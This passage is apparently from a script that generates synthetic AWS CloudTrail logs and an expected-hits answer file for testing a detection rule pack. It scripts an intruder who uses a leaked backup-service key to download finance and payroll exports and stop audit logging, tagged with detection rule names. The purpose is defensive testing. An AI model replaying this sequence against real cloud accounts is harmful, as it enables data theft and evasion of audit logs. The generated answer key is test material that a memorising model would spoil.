  trail(at(8, 42, 40), durand, "ec2.amazonaws.com", "DescribeInstances", CORP_EGRESS, { userAgent: browserAgent, requestParameters: { instancesSet: {}, filterSet: {} } });
  trail(at(8, 43, 15), durand, "cloudtrail.amazonaws.com", "DescribeTrails", CORP_EGRESS, { userAgent: browserAgent, requestParameters: { includeShadowTrails: false } });
  trail(at(8, 43, 31), durand, "cloudtrail.amazonaws.com", "GetTrailStatus", CORP_EGRESS, { userAgent: browserAgent, requestParameters: { name: `arn:aws:cloudtrail:eu-west-3:${ACCOUNT}:trail/martel-audit` } });
  trail(at(8, 44, 2), durand, "cloudtrail.amazonaws.com", "UpdateTrail", CORP_EGRESS, { userAgent: browserAgent, readOnly: false, requestParameters: { name: "martel-audit", isMultiRegionTrail: true }, errorCode: "AccessDenied", errorMessage: `User: ${durand.arn} is not authorized to perform: cloudtrail:UpdateTrail on resource: arn:aws:cloudtrail:eu-west-3:${ACCOUNT}:trail/martel-audit because no identity-based policy allows the cloudtrail:UpdateTrail action` });
  trail(at(8, 49, 30), durand, "s3.amazonaws.com", "GetObject", CORP_EGRESS, { ...s3Get("martel-finance-exports", "exports/2026-11-19_ecritures.csv.gz", 126_877_402), userAgent: browserAgent });
  trail(at(8, 51, 0), durand, "iam.amazonaws.com", "ListUsers", CORP_EGRESS, { userAgent: browserAgent, requestParameters: { maxItems: 100 } });
  // The nightly backup job pushes its archive at 08:55 from the office egress.
  trail(at(8, 55, 12), backupUser, "s3.amazonaws.com", "PutObject", CORP_EGRESS, { category: "Data", readOnly: false, userAgent: "aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/windows#10 md/arch#amd64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#s3.cp", requestParameters: { bucketName: "martel-sauvegardes", Host: "martel-sauvegardes.s3.eu-west-3.amazonaws.com", key: "partages/2026-11-20_partages.7z" }, additionalEventData: { SignatureVersion: "SigV4", bytesTransferredIn: 734_003_200, bytesTransferredOut: 0, AuthenticationMethod: "AuthHeader" } });

  // The intruder, with svc-sauvegarde's access key found in \\srv-lyon-dc01\Partages\IT\scripts.
  actor = "attacker";
  trail(at(9, 25, 40), backupUser, "sts.amazonaws.com", "GetCallerIdentity", DROP, { requestParameters: null });
  trail(at(9, 25, 52), backupUser, "s3.amazonaws.com", "ListBuckets", DROP, { requestParameters: { Host: "s3.eu-west-3.amazonaws.com" } });
  trail(at(9, 26, 20), backupUser, "s3.amazonaws.com", "GetObject", DROP, s3Get("martel-finance-exports", "exports/2026-11_paie_virements.csv", 4_404_019));
  trail(at(9, 26, 45), backupUser, "s3.amazonaws.com", "GetObject", DROP, s3Get("martel-finance-exports", "exports/2026-11-19_ecritures.csv.gz", 126_877_402), { hits: ["aws_s3_large_download_external"] });
  trail(at(9, 27, 20), backupUser, "cloudtrail.amazonaws.com", "StopLogging", DROP, { readOnly: false, requestParameters: { name: `arn:aws:cloudtrail:eu-west-3:${ACCOUNT}:trail/martel-audit` } }, { hits: ["aws_cloudtrail_tampering"] });
  actor = "benign";
}

// ---------------------------------------------------------------------------------------------
// Build, sort, write.

benignScripted();
asAttacker(intrusion);
backgroundWorkstation(W, ws, CLAIRE, 105);
backgroundWorkstation(A, adm, JULIEN, 50);
backgroundDomainController(90);
linux();
cloud();

const where = new Map(); // rule name -> ["file:line", ...]
const suppressedAt = new Map();
const note = (map, name, ref) => {
  if (!map.has(name)) map.set(name, []);
  map.get(name).push(ref);
};
let total = 0;
for (const [file, entries] of [...files.entries()].sort(([a], [b]) => a.localeCompare(b))) {
  entries.sort((x, y) => x.t - y.t);
  entries.forEach((e, i) => {
    for (const h of e.hits) note(where, h, `${file}:${i + 1}`);
    for (const s of e.suppressed) note(suppressedAt, s, `${file}:${i + 1}`);
  });
  mkdirSync(join(here, dirname(file)), { recursive: true });
  writeFileSync(join(here, file), `${entries.map((e) => JSON.stringify(e.rec)).join("\n")}\n`);
  total += entries.length;
  const attacker = entries.filter((e) => e.actor === "attacker").length;
  console.log(`${file}: ${entries.length} records (${entries.length - attacker} benign, ${attacker} attacker)`);
}

// The golden list, keyed by rule id in the pack's file order.
function* ruleDocuments(dir) {
  for (const entry of readdirSync(dir, { withFileTypes: true }).sort((a, b) => a.name.localeCompare(b.name))) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) yield* ruleDocuments(path);
    else if (/\.ya?ml$/.test(entry.name)) {
      for (const doc of parseAllDocuments(readFileSync(path, "utf8"))) yield { file: relative(rulesDir, path), rule: doc.toJS() };
    }
  }
}

// Correlation matches designed into the data (see samples/README.md for the arithmetic).
const correlationGroups = {
  brute_force_single_source: [{ IpAddress: W.ip }],
  password_spraying_single_source: [{ IpAddress: W.ip }],
  intrusion_chain_ps_lsass_vss: [{ Computer: D.name }],
};
const notStandalone = new Set(["failed_logon"]);

const expected = {};
for (const { file, rule } of ruleDocuments(rulesDir)) {
  if (rule.filter) {
    const names = [...suppressedAt.keys()];
    const events = names.flatMap((n) => suppressedAt.get(n));
    expected[rule.id] = { title: rule.title, file, kind: "filter", hits: 0, suppressed: events.length, events };
  } else if (rule.correlation) {
    const groups = correlationGroups[rule.name] ?? [];
    expected[rule.id] = { title: rule.title, name: rule.name, file, kind: "correlation", type: rule.correlation.type, hits: groups.length, groups };
  } else {
    const events = where.get(rule.name) ?? [];
    expected[rule.id] = { title: rule.title, name: rule.name, file, kind: "detection", hits: events.length, ...(notStandalone.has(rule.name) ? { standalone: false } : {}), events };
  }
}
for (const name of where.keys()) {
  if (!Object.values(expected).some((e) => e.name === name)) throw new Error(`hits designed for unknown rule ${name}`);
}
writeFileSync(join(here, "expected-hits.json"), `${JSON.stringify(expected, null, 2)}\n`);
console.log(`${total} records; expected-hits.json: ${Object.keys(expected).length} rules`);
